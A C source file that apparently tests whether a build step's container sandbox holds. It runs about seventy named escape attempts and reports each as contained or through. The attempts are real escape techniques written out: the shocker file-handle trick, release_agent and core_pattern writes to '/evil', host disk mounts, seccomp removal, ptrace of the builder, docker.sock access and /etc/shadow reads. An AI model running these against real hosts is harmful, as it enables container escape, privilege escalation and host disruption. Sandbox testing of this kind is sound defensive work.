/* Attempts to leave a RUN step, by name: exit code 0 when the attempt was contained, 1 when it got through.
 *
 * Static, and with system calls by number where libc would get in the way. What it knows of the host
 * (a file, a process, a port, an abstract socket, a shared memory key) comes in the environment, so that
 * "contained" can be judged from inside.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/swap.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char *canary, *program;
static long builder, port, key;

static int opens(const char *path, int flags) {
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) return 0;
    printf("opened %s\n", path);
    close(fd);
    return 1;
}
static int reads(const char *path) {
    char byte[64];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) return 0;
    ssize_t got = read(fd, byte, sizeof byte);
    close(fd);
    if (got > 0) printf("read %zd bytes of %s\n", got, path);
    return got > 0;
}
static int writes(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return 0;
    ssize_t put = write(fd, text, strlen(text));
    close(fd);
    if (put > 0) printf("wrote to %s\n", path);
    return put > 0;
}
static int went(long result, const char *what) {
    if (result < 0) return 0;
    printf("%s went through\n", what);
    return 1;
}
static int sees_canary(void) { return opens(canary, O_RDONLY); }
#define CALL(name, ...) went(syscall(SYS_##name, ##__VA_ARGS__), #name)

/* -- the root ------------------------------------------------------------------------------------------ */
static int plain_path(void) {
    char path[4096];
    snprintf(path, sizeof path, "/../../../../../../../../../..%s", canary);
    return sees_canary() + opens(path, O_RDONLY);
}
static int climb(void) {
    for (int i = 0; i < 128; i++) if (chdir("..")) break;
    if (chroot(".")) return 0;
    return sees_canary();
}
static int chroot_twice(void) {
    mkdir("/jail", 0755);
    if (chroot("/jail")) return 0;
    return climb();
}
static int chroot_by_descriptor(void) {
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/jail", 0755);
    if (chroot("/jail") || fchdir(fd)) return 0;
    return climb();
}
static int pivot(void) { mkdir("/jail", 0755); return CALL(pivot_root, ".", ".") + CALL(pivot_root, "/jail", "/jail"); }
static int root_of_processes(void) {
    char path[8192];
    int found = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        for (const char **link = (const char *[]){"root", "cwd", "task/1/root", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9", NULL}; *link; link++) {
            snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, *link, canary);
            found += opens(path, O_RDONLY);
        }
    }
    return found;
}
static int other_processes(void) {
    int found = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));)
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && atoi(entry->d_name) > 64) found++, printf("process %s\n", entry->d_name);
    return found;
}
static int leaked_descriptors(void) {
    int found = 0;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) found++, printf("descriptor %d\n", fd);
    return found;
}
static int directory_descriptors(void) {
    int found = 0;
    for (int fd = 0; fd < 64; fd++) {
        int up = openat(fd, "..", O_RDONLY | O_DIRECTORY);
        if (up >= 0) found++, printf("a directory at %d\n", fd), close(up);
    }
    return found;
}
static int write_interpreter(void) {
    char path[300];
    int found = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        found += opens(path, O_WRONLY);
    }
    return found;
}
static int handles(void) {
    struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head.handle_bytes = 128};
    int mount_id = 0, fd = open("/", O_RDONLY);
    syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &handle, &mount_id, 0);
    if (CALL(open_by_handle_at, fd, &handle, O_RDONLY)) return 1;
    handle.head.handle_bytes = 8; /* the root of ext4 and xfs, as the shocker exploit asked for it */
    handle.head.handle_type = 1;
    memcpy(handle.bytes, "\2\0\0\0\0\0\0\0", 8);
    return CALL(open_by_handle_at, fd, &handle, O_RDONLY);
}
static int layers_on_the_host(void) {
    char line[65536], *at;
    int found = 0;
    FILE *mounts = fopen("/proc/self/mountinfo", "r");
    while (mounts && fgets(line, sizeof line, mounts))
        for (const char **name = (const char *[]){"upperdir=", "workdir=", "lowerdir=", "lowerdir+=", NULL}; *name; name++)
            if ((at = strstr(line, *name))) {
                char *end = strpbrk(at += strlen(*name), ",:\n ");
                char kept = *end;
                *end = 0;
                if (opens(at, O_RDONLY)) found++;
                *end = kept;
            }
    return found;
}

/* -- mounts -------------------------------------------------------------------------------------------- */
static int mount_proc(void) { mkdir("/m", 0755); return CALL(mount, "proc", "/m", "proc", 0, 0); }
static int mount_tmpfs(void) { mkdir("/m", 0755); return CALL(mount, "t", "/m", "tmpfs", 0, 0); }
static int mount_bind(void) { mkdir("/m", 0755); return CALL(mount, "/", "/m", 0, MS_BIND | MS_REC, 0); }
static int mount_remount(void) {
    return CALL(mount, 0, "/proc/sys", 0, MS_REMOUNT | MS_BIND, 0) + CALL(mount, 0, "/sys", 0, MS_REMOUNT | MS_BIND, 0)
        + CALL(mount, 0, "/", 0, MS_REMOUNT, 0);
}
static int mount_propagation(void) { return CALL(mount, 0, "/", 0, MS_SHARED | MS_REC, 0) + CALL(mount, 0, "/", 0, MS_SLAVE | MS_REC, 0); }
static int unmask(void) {
    return CALL(umount2, "/proc/kcore", MNT_DETACH) + CALL(umount2, "/proc/sys", MNT_DETACH) + CALL(umount2, "/proc", MNT_DETACH)
        + CALL(umount2, "/sys/firmware", MNT_DETACH) + CALL(umount2, "/", MNT_DETACH);
}
static int mount_new_calls(void) {
    return CALL(fsopen, "proc", 0) + CALL(open_tree, AT_FDCWD, "/", 1) + CALL(fspick, AT_FDCWD, "/", 0)
        + CALL(move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/tmp", 0) + CALL(mount_setattr, AT_FDCWD, "/", 0, (char[64]){0}, 32);
}
static int mount_cgroup(void) {
    mkdir("/m", 0755);
    return CALL(mount, "c", "/m", "cgroup", 0, "memory") + CALL(mount, "c", "/m", "cgroup2", 0, 0) + CALL(mount, "c", "/m", "cgroup", 0, "rdma");
}

/* -- devices ------------------------------------------------------------------------------------------- */
static int try_device(mode_t kind, unsigned major, unsigned minor) {
    char path[64];
    snprintf(path, sizeof path, "/node-%u-%u-%u", kind, major, minor);
    if (mknod(path, kind | 0666, makedev(major, minor))) return 0;
    int got = opens(path, O_RDONLY) + opens(path, O_WRONLY);
    unlink(path);
    return got;
}
static int node_of_a_disk(void) {
    int found = 0;
    unsigned majors[] = {7, 8, 9, 252, 253, 254, 259, 202, 179};
    for (unsigned i = 0; i < sizeof majors / sizeof *majors; i++)
        for (unsigned minor = 0; minor < 3; minor++) found += try_device(S_IFBLK, majors[i], minor);
    return found;
}
static int node_of_memory(void) { return try_device(S_IFCHR, 1, 1) + try_device(S_IFCHR, 1, 2) + try_device(S_IFCHR, 1, 4); }
static int node_of_the_log(void) { return try_device(S_IFCHR, 1, 11); }
static int node_of_a_terminal(void) { return try_device(S_IFCHR, 4, 0) + try_device(S_IFCHR, 5, 1) + try_device(S_IFCHR, 4, 64); }
static int node_of_tools(void) { /* fuse, tun, kvm, loop-control, vfio, vhost-net, uinput */
    int found = 0;
    unsigned minors[] = {229, 200, 232, 237, 196, 238, 223, 235, 144, 231};
    for (unsigned i = 0; i < sizeof minors / sizeof *minors; i++) found += try_device(S_IFCHR, 10, minors[i]);
    return found;
}
static int nodes_in_memory(void) { /* the tmpfs of the step are places for nodes as well */
    int found = 0;
    for (const char **place = (const char *[]){"/dev/shm/n", "/dev/n", "/dev/mqueue/n", "/dev/pts/n", "/tmp/n", NULL}; *place; place++) {
        if (mknod(*place, S_IFBLK | 0666, makedev(7, 0)) == 0) found += opens(*place, O_RDONLY);
        unlink(*place);
        if (mknod(*place, S_IFCHR | 0666, makedev(1, 11)) == 0) found += opens(*place, O_WRONLY);
        unlink(*place);
    }
    return found;
}
static int node_of_a_pseudo_terminal(void) { /* a step may open these numbers; away from its own devpts they lead nowhere */
    int found = 0;
    for (unsigned minor = 0; minor < 4; minor++) found += try_device(S_IFCHR, 136, minor);
    return found + try_device(S_IFCHR, 2, 0) + try_device(S_IFCHR, 3, 0);
}
static int mount_a_disk(void) {
    int found = 0;
    char line[256], name[64];
    unsigned major, minor;
    FILE *list = fopen("/proc/partitions", "r");
    mkdir("/m", 0755);
    while (list && fgets(line, sizeof line, list)) {
        if (sscanf(line, " %u %u %*u %63s", &major, &minor, name) != 3) continue;
        found += try_device(S_IFBLK, major, minor);
        if (mknod("/disk", S_IFBLK | 0666, makedev(major, minor))) continue;
        for (const char **kind = (const char *[]){"ext4", "xfs", "btrfs", "squashfs", "iso9660", NULL}; *kind; kind++)
            found += CALL(mount, "/disk", "/m", *kind, MS_RDONLY, 0);
        found += went(swapon("/disk", 0), "swapon") + CALL(quotactl, 0x80000700, "/disk", 0, 0);
        unlink("/disk");
    }
    return found;
}
static int device_rules(void) { /* out of the group that keeps it from devices, or the group's rules */
    static const char *files[] = {"devices.allow", "cgroup.procs", "tasks", "cgroup.subtree_control", "devices/../cgroup.procs", NULL};
    int found = 0;
    char path[256];
    for (const char **place = (const char *[]){"/sys/fs/cgroup", "/sys/fs/cgroup/devices", "/sys/fs/cgroup/unified", NULL}; *place; place++)
        for (const char **file = files; *file; file++) {
            snprintf(path, sizeof path, "%s/%s", *place, *file);
            int fd = open(path, O_WRONLY);
            if (fd < 0) continue;
            found += went(write(fd, "a", 1), path) + went(write(fd, "0", 1), path);
            close(fd);
        }
    return found + try_device(S_IFBLK, 7, 0);
}
static int devices_there(void) {
    return opens("/dev/mem", O_RDONLY) + opens("/dev/kmem", O_RDONLY) + opens("/dev/port", O_RDONLY) + opens("/dev/kmsg", O_RDONLY)
        + opens("/dev/sda", O_RDONLY) + opens("/dev/vda", O_RDONLY) + opens("/dev/fuse", O_RDWR) + opens("/dev/kvm", O_RDWR)
        + opens("/dev/net/tun", O_RDWR) + opens("/dev/loop-control", O_RDWR) + opens("/dev/console", O_RDWR) + opens("/dev/userfaultfd", O_RDWR);
}
static int ports(void) {
#ifdef SYS_ioperm
    return CALL(ioperm, 0x80, 1, 1) + CALL(iopl, 3);
#else
    return 0;
#endif
}
static int terminal_input(void) {
    int found = 0;
    for (int fd = 0; fd < 3; fd++) found += went(ioctl(fd, TIOCSTI, "x"), "TIOCSTI") + went(ioctl(fd, TIOCLINUX, "\2"), "TIOCLINUX");
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0) found += went(ioctl(tty, TIOCSTI, "x"), "TIOCSTI on /dev/tty");
    return found;
}
static int terminals_of_the_host(void) {
    int found = 0;
    DIR *pts = opendir("/dev/pts");
    for (struct dirent *entry; pts && (entry = readdir(pts));)
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') found++, printf("terminal %s\n", entry->d_name);
    return found;
}

/* -- the kernel ---------------------------------------------------------------------------------------- */
static int modules(void) { return CALL(init_module, "", 0, "") + CALL(finit_module, 0, "", 0) + CALL(delete_module, "x", 0); }
static int kexec(void) { return CALL(kexec_load, 0, 0, 0, 0) + CALL(kexec_file_load, -1, -1, 0, "", 4); }
static int bpf_calls(void) { return CALL(bpf, 0, (char[128]){1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1}, 72); }
static int perf(void) { return CALL(perf_event_open, (char[128]){1, 0, 0, 0, 112}, 0, -1, -1, 0); }
static int faults(void) { return CALL(userfaultfd, 0) + CALL(userfaultfd, 1); }
static int uring(void) { return CALL(io_uring_setup, 4, (char[256]){0}) + CALL(io_uring_enter, 0, 0, 0, 0, 0) + CALL(io_uring_register, -1, 0, 0, 0); }
static int keys(void) {
    return CALL(keyctl, 0, -3, 1) + CALL(keyctl, 0, -4, 1) + CALL(keyctl, 11, -5, 0, 0) + CALL(add_key, "user", "k", "v", 1, -3)
        + CALL(request_key, "user", "k", 0, -3);
}
static int clock_changes(void) {
    struct timespec now = {1, 0};
    struct timex change = {.modes = ADJ_OFFSET};
    return CALL(clock_settime, 0, &now) + CALL(settimeofday, &now, 0) + CALL(adjtimex, &change) + CALL(clock_adjtime, 0, &change);
}
static int restart(void) { return CALL(reboot, 0xfee1dead, 672274793, 0x89abcdef, 0); } /* only Ctrl-Alt-Del's meaning */
static int names(void) { return CALL(sethostname, "owned", 5) + CALL(setdomainname, "owned", 5) + writes("/proc/sys/kernel/hostname", "owned"); }
static int swap(void) { return CALL(swapon, "/dev/zero", 0) + CALL(swapoff, "/dev/zero"); }
static int accounting(void) { return CALL(acct, "/acct") + CALL(acct, 0) + CALL(quotactl, 0x800001 << 8, 0, 0, 0); }
static int kernel_log(void) { char text[64]; return CALL(syslog, 3, text, 64) + CALL(syslog, 5, text, 64) + reads("/dev/kmsg") + reads("/proc/kmsg"); }
static int settings(void) {
    return writes("/proc/sys/kernel/core_pattern", "|/evil") + writes("/proc/sys/kernel/modprobe", "/evil") + writes("/proc/sys/vm/panic_on_oom", "0")
        + writes("/sys/kernel/uevent_helper", "/evil") + writes("/proc/sys/fs/binfmt_misc/register", ":x:M::x::/evil:")
        + writes("/sys/kernel/mm/transparent_hugepage/enabled", "never") + writes("/sys/power/state", "x") + writes("/sys/fs/cgroup/cgroup.procs", "1")
        + writes("/proc/irq/default_smp_affinity", "3") + writes("/proc/sys/kernel/ns_last_pid", "9") + writes("/proc/fs/x", "x");
}
static int sysrq(void) { return writes("/proc/sysrq-trigger", "h") + opens("/proc/sysrq-trigger", O_WRONLY); }
static int release_agent(void) {
    int found = writes("/sys/fs/cgroup/release_agent", "/evil") + went(mkdir("/sys/fs/cgroup/evil", 0755), "mkdir in cgroup");
    char path[600];
    DIR *groups = opendir("/sys/fs/cgroup");
    for (struct dirent *entry; groups && (entry = readdir(groups));) {
        if (entry->d_name[0] == '.') continue;
        for (const char **name = (const char *[]){"release_agent", "cgroup.procs", "notify_on_release", "tasks", "devices.allow", "../cgroup.procs", NULL}; *name; name++) {
            snprintf(path, sizeof path, "/sys/fs/cgroup/%s/%s", entry->d_name, *name);
            found += opens(path, O_WRONLY);
        }
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s/evil", entry->d_name);
        found += went(mkdir(path, 0755), path);
    }
    return found;
}
static int masked(void) {
    return reads("/proc/kcore") + reads("/proc/keys") + reads("/proc/timer_list") + reads("/proc/sched_debug") + reads("/proc/latency_stats")
        + reads("/proc/acpi/wakeup") + reads("/proc/scsi/scsi") + reads("/proc/interrupts") + reads("/sys/firmware/dmi/tables/DMI")
        + reads("/sys/firmware/memmap/0/start") + reads("/proc/asound/version") + reads("/sys/devices/virtual/powercap/intel-rapl/enabled");
}
static int old_abi(void) { /* the 32-bit and x32 doors to the same calls */
    int found = 0;
#ifdef __x86_64__
    long result;
    int calls[] = {21, 310, 346, 217, 283, 357, 288, 88}; /* mount unshare setns pivot_root kexec_load bpf keyctl reboot */
    for (unsigned i = 0; i < sizeof calls / sizeof *calls; i++) {
        __asm__ volatile("int $0x80" : "=a"(result) : "a"((long)calls[i]), "b"(0x10000000L), "c"(0L), "d"(0L), "S"(0L), "D"(0L) : "memory");
        if (result >= 0) found++, printf("32-bit call %d went through\n", calls[i]);
        if (result != -EPERM && result != -ENOSYS) found++, printf("32-bit call %d reached the kernel: %ld\n", calls[i], result);
    }
    int wide[] = {SYS_mount, SYS_unshare, SYS_setns, SYS_bpf, SYS_keyctl};
    for (unsigned i = 0; i < sizeof wide / sizeof *wide; i++)
        if (syscall(wide[i] | 0x40000000, 0x10000000, 0, 0, 0, 0) >= 0 || (errno != ENOSYS && errno != EPERM)) found++, printf("x32 call %d\n", wide[i]);
#endif
    return found;
}
static int obsolete(void) {
    return CALL(lookup_dcookie, 0, 0, 0) + CALL(fanotify_init, 0, 0) + CALL(vhangup)
#ifdef SYS_ustat
        + CALL(ustat, 0, 0) + CALL(_sysctl, 0) + CALL(nfsservctl, 0) + CALL(uselib, "/x") + CALL(sysfs, 3)
#endif
        + CALL(move_pages, 0, 0, 0, 0, 0, 0) + CALL(kcmp, 1, 1, 0, 0, 0) + CALL(personality, 0x0040000);
}

/* -- namespaces and privileges ------------------------------------------------------------------------- */
static int unshare_user(void) { return CALL(unshare, CLONE_NEWUSER); }
static int unshare_others(void) {
    int kinds[] = {CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID, CLONE_NEWUTS, CLONE_NEWIPC, CLONE_NEWCGROUP, 0x80};
    int found = 0;
    for (unsigned i = 0; i < 7; i++) found += CALL(unshare, kinds[i]);
    return found;
}
static int clone_user(void) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    return went(pid, "clone with a user namespace");
}
static int clone3_user(void) {
    unsigned long long arguments[11] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
    long pid = syscall(SYS_clone3, arguments, sizeof arguments);
    if (pid == 0) _exit(0);
    return went(pid, "clone3 with a user namespace");
}
static int enter_namespaces(void) {
    int found = 0;
    char path[64];
    for (const char **name = (const char *[]){"mnt", "net", "pid", "user", "uts", "ipc", "cgroup", "time", NULL}; *name; name++)
        for (int pid = 1; pid < 3; pid++) {
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, *name);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            found += CALL(setns, fd, 0);
            int up = ioctl(fd, 0xb701), parent = ioctl(fd, 0xb702); /* NS_GET_USERNS, NS_GET_PARENT */
            if (up >= 0) found += CALL(setns, up, 0);
            if (parent >= 0) found += CALL(setns, parent, 0);
            close(fd);
        }
    return found;
}
static int raise_capabilities(void) {
    struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {{~0u, ~0u, ~0u}, {~0u, ~0u, ~0u}};
    int found = CALL(capset, &head, data);
    found += went(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0), "an ambient capability");
    return found;
}
static int again(const char *name) { /* the attempt `name`, by what is executed now */
    pid_t pid = fork();
    int status = 0;
    if (!pid) { execl("/copy", "copy", name, NULL); _exit(0); }
    waitpid(pid, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}
static int copy_to(int out) {
    char block[65536];
    int in = open(program, O_RDONLY);
    for (ssize_t got; (got = read(in, block, sizeof block)) > 0;) if (write(out, block, got) != got) return -1;
    close(in);
    return 0;
}
static int file_capabilities(void) {
    unsigned capability[5] = {0x02000001, ~0u, 0, ~0u, 0};
    int out = open("/copy", O_CREAT | O_TRUNC | O_WRONLY, 06755);
    if (out < 0 || copy_to(out)) return 0;
    fchmod(out, 06755);
    fsetxattr(out, "security.capability", capability, sizeof capability, 0);
    close(out);
    int found = again("mount_tmpfs") + again("raise_capabilities") + again("unshare_user") + again("keys");
    unlink("/copy");
    return found;
}
static int memory_program(void) {
    int fd = syscall(SYS_memfd_create, "x", 0), status = 0;
    if (fd < 0 || copy_to(fd)) return 0;
    pid_t pid = fork();
    if (!pid) { fexecve(fd, (char *[]){"x", "mount_bind", NULL}, environ); _exit(0); }
    waitpid(pid, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}
static int drop_the_filter(void) {
    struct { unsigned short n; void *p; } none = {0, 0};
    return went(prctl(PR_SET_SECCOMP, 0, 0, 0, 0), "no filter") + went(syscall(SYS_seccomp, 1, 0, &none), "an empty filter")
        + went(ptrace(0x420c, getppid(), 0, 0), "reading the filter") + went(ptrace(PTRACE_SETOPTIONS, getpid(), 0, 0x200000), "suspending the filter");
}
static int limits(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max += 1;
    return went(setrlimit(RLIMIT_NOFILE, &limit), "a higher limit") + went(setpriority(PRIO_PROCESS, 0, -20), "a higher priority")
        + writes("/proc/self/oom_score_adj", "-1000") + went(syscall(SYS_ioprio_set, 1, 0, 1 << 13), "real-time input and output");
}
static int maps(void) { return writes("/proc/self/uid_map", "0 0 1") + writes("/proc/self/gid_map", "0 0 1") + writes("/proc/self/setgroups", "deny"); }
static int processes_of_the_host(void) {
    int found = went(ptrace(PTRACE_ATTACH, builder, 0, 0), "tracing the builder") + went(ptrace(0x4206, builder, 0, 0), "seizing the builder")
        + went(kill(builder, 0), "a signal to the builder") + went(getpgid(builder), "the builder's group") + CALL(pidfd_open, builder, 0)
        + CALL(sched_setaffinity, builder, 8, (char[8]){3}) + CALL(prlimit64, builder, 7, 0, (char[16]){0});
    for (int pid = 0; pid < 3; pid++) found += CALL(pidfd_getfd, pid, 0, 0);
    return found;
}
static int parents(void) { /* 0 or pid 1 of the namespace: nobody of the host */
    struct rusage usage;
    if (getppid() > 64) return printf("a parent outside: %d\n", getppid());
    return getsid(0) > 64 || getpgid(0) > 64 || getrusage(RUSAGE_SELF, &usage) < 0;
}
static int dumpable(void) { return went(prctl(PR_SET_DUMPABLE, 2, 0, 0, 0), "dumps for root") + went(prctl(PR_SET_MM, 8, 0, 0, 0), "PR_SET_MM"); }

/* -- sockets and memory -------------------------------------------------------------------------------- */
static int connects(const char *path, size_t length) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    memcpy(address.sun_path, path, length);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int result = connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + length);
    close(fd);
    return went(result, *path ? path : "an abstract socket");
}
static int abstract_socket(void) {
    char name[108] = {0};
    int length = snprintf(name + 1, sizeof name - 1, "%s", getenv("ABSTRACT"));
    return connects(name, length + 1);
}
static int sockets_of_the_host(void) {
    return connects("/var/run/docker.sock", 21) + connects("/run/docker.sock", 17) + connects("/run/containerd/containerd.sock", 32)
        + connects("/run/systemd/private", 21) + connects("/run/dbus/system_bus_socket", 28) + connects("/tmp/dk/d.sock", 15);
}
static int listed_sockets(void) {
    char line[512];
    FILE *list = fopen("/proc/net/unix", "r");
    while (list && fgets(line, sizeof line, list)) if (strstr(line, getenv("ABSTRACT"))) return printf("%s", line);
    return 0;
}
static int loopback_of_the_host(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    return went(connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address), "a port of the host's loopback");
}
static int raw_to_loopback(void) { /* raw and packet sockets are Docker's default; what they reach is the step's own */
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    unsigned char packet[40] = {0x45, 0, 0, 40, 0, 1, 0, 0, 64, 6, 0, 0, 127, 0, 0, 1, 127, 0, 0, 1};
    char answer[2048];
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (raw < 0) return 0;
    setsockopt(raw, IPPROTO_IP, 3, (int[]){1}, 4);
    setsockopt(raw, SOL_SOCKET, SO_RCVTIMEO, &(struct timeval){0, 200000}, sizeof(struct timeval));
    *(unsigned short *)(packet + 20) = htons(4444), *(unsigned short *)(packet + 22) = htons(port), packet[32] = 0x50, packet[33] = 2;
    sendto(raw, packet, sizeof packet, 0, (struct sockaddr *)&address, sizeof address);
    for (ssize_t got; (got = recv(raw, answer, sizeof answer, 0)) > 0;)
        if (got >= 34 && (answer[33] & 0x12) == 0x12) return printf("the host's loopback answered\n");
    return 0;
}
static int netlink(void) {
    struct { struct nlmsghdr head; struct ifinfomsg info; } order = {
        {sizeof order, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0}, {AF_UNSPEC, 0, 1, 0, ~0u}}; /* loopback down */
    struct { struct nlmsghdr head; int error; } answer;
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    send(fd, &order, sizeof order, 0);
    if (recv(fd, &answer, sizeof answer, MSG_DONTWAIT) > 0 && answer.head.nlmsg_type == NLMSG_ERROR && answer.error == 0)
        return printf("a link was changed\n");
    return 0;
}
static int families(void) {
    int found = 0;
    int kinds[] = {38, 40, 44, 29, 31, 36, 35, 21}; /* alg vsock xdp can bluetooth ieee802154 phonet rds */
    for (unsigned i = 0; i < 2; i++) found += went(socket(kinds[i], SOCK_SEQPACKET, 0), "AF_ALG or AF_VSOCK") + went(socket(kinds[i], SOCK_STREAM, 0), "it");
    return found;
}
static int shared_memory(void) { return went(shmget(key, 1, 0), "shared memory of the host") + went(shmat(0, 0, SHM_RDONLY) == (void *)-1 ? -1 : 0, "a segment"); }
static int messages(void) { return reads("/dev/mqueue/host") + went(syscall(SYS_msgget, key, 0), "a queue of the host") + went(syscall(SYS_semget, key, 1, 0), "semaphores"); }

#define ATTEMPT(name) {#name, name}
static const struct { const char *name; int (*run)(void); } ATTEMPTS[] = {
    ATTEMPT(plain_path), ATTEMPT(chroot_twice), ATTEMPT(chroot_by_descriptor), ATTEMPT(pivot), ATTEMPT(root_of_processes),
    ATTEMPT(other_processes), ATTEMPT(leaked_descriptors), ATTEMPT(directory_descriptors), ATTEMPT(write_interpreter), ATTEMPT(handles),
    ATTEMPT(layers_on_the_host), ATTEMPT(mount_proc), ATTEMPT(mount_tmpfs), ATTEMPT(mount_bind), ATTEMPT(mount_remount),
    ATTEMPT(mount_propagation), ATTEMPT(unmask), ATTEMPT(mount_new_calls), ATTEMPT(mount_cgroup), ATTEMPT(node_of_a_disk),
    ATTEMPT(node_of_a_pseudo_terminal), ATTEMPT(mount_a_disk), ATTEMPT(device_rules),
    ATTEMPT(node_of_memory), ATTEMPT(node_of_the_log), ATTEMPT(node_of_a_terminal), ATTEMPT(node_of_tools), ATTEMPT(nodes_in_memory),
    ATTEMPT(devices_there), ATTEMPT(ports), ATTEMPT(terminal_input), ATTEMPT(terminals_of_the_host), ATTEMPT(modules), ATTEMPT(kexec),
    ATTEMPT(bpf_calls), ATTEMPT(perf), ATTEMPT(faults), ATTEMPT(uring), ATTEMPT(keys), ATTEMPT(clock_changes), ATTEMPT(restart),
    ATTEMPT(names), ATTEMPT(swap), ATTEMPT(accounting), ATTEMPT(kernel_log), ATTEMPT(settings), ATTEMPT(sysrq), ATTEMPT(release_agent),
    ATTEMPT(masked), ATTEMPT(old_abi), ATTEMPT(obsolete), ATTEMPT(unshare_user), ATTEMPT(unshare_others), ATTEMPT(clone_user),
    ATTEMPT(clone3_user), ATTEMPT(enter_namespaces), ATTEMPT(raise_capabilities), ATTEMPT(file_capabilities), ATTEMPT(memory_program),
    ATTEMPT(drop_the_filter), ATTEMPT(limits), ATTEMPT(maps), ATTEMPT(processes_of_the_host), ATTEMPT(parents), ATTEMPT(dumpable),
    ATTEMPT(abstract_socket), ATTEMPT(sockets_of_the_host), ATTEMPT(listed_sockets), ATTEMPT(loopback_of_the_host), ATTEMPT(raw_to_loopback),
    ATTEMPT(netlink), ATTEMPT(families), ATTEMPT(shared_memory), ATTEMPT(messages),
};

static int attempt(const char *name) {
    for (unsigned i = 0; i < sizeof ATTEMPTS / sizeof *ATTEMPTS; i++)
        if (!strcmp(ATTEMPTS[i].name, name)) return ATTEMPTS[i].run() ? 1 : 0;
    return 2;
}

/* Without arguments: all of them, each in a process of its own, a line each: name, then contained, through or how it died. */
int main(int count, char **arguments) {
    program = arguments[0][0] == '/' ? arguments[0] : "/escape";
    canary = getenv("CANARY") ? getenv("CANARY") : "/etc/shadow";
    builder = atol(getenv("BUILDER") ? getenv("BUILDER") : "0");
    port = atol(getenv("PORT") ? getenv("PORT") : "0");
    key = atol(getenv("KEY") ? getenv("KEY") : "0");
    if (!getenv("ABSTRACT")) setenv("ABSTRACT", "nobody", 1);
    setvbuf(stdout, NULL, _IONBF, 0);
    if (count > 1) return attempt(arguments[1]);
    for (unsigned i = 0; i < sizeof ATTEMPTS / sizeof *ATTEMPTS; i++) {
        int status = 0;
        pid_t pid = fork();
        if (!pid) { alarm(5); _exit(attempt(ATTEMPTS[i].name)); }
        waitpid(pid, &status, 0);
        printf("= %s %s %d\n", ATTEMPTS[i].name,
               !WIFEXITED(status) ? "died" : WEXITSTATUS(status) ? "through" : "contained", WIFEXITED(status) ? 0 : WTERMSIG(status));
    }
    return 0;
}
